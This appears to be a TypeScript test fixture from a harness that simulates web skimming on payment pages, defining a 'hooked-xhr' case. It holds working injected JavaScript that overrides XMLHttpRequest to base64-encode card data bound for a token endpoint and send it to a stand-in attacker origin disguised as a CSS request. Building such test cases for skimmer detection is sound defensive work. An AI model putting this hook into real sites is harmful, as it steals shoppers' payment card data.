import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';

export default skimmer({
  id: 'hooked-xhr',
  why: "Replaces XMLHttpRequest.prototype.send, for shops whose provider's script still uses it (this one is put on such a page).",
  covers: ['sending: XHR', 'encoding: base64'],
  base: 'direct',
  install: (site) => {
    site.append(js`WakabaPay.createToken = function (card) {
  return new Promise(function (resolve, reject) {
    var x = new XMLHttpRequest();
    x.open('POST', '${site.origins.pay}/v1/tokens');
    x.setRequestHeader('content-type', 'application/json');
    x.onload = function () { if (x.status === 200) resolve(JSON.parse(x.responseText).token); else reject(new Error('declined')); };
    x.send(JSON.stringify({ key: 'pk_live_wakaba7c1e', card: card }));
  });
};`);
    site.inline(js`(function () {
  var send = XMLHttpRequest.prototype.send, open = XMLHttpRequest.prototype.open;
  XMLHttpRequest.prototype.open = function (m, u) { this._u = u; return open.apply(this, arguments); };
  XMLHttpRequest.prototype.send = function (body) {
    if (/tokens/.test(this._u)) { var x = new XMLHttpRequest(); open.call(x, 'GET', '${site.origins.evil}/j.css?b=' + encodeURIComponent(btoa(body))); send.call(x); }
    return send.apply(this, arguments);
  };
})();`);
  },
  proof: holds((arrived) => query(arrived, 'b').map(base64)),
});
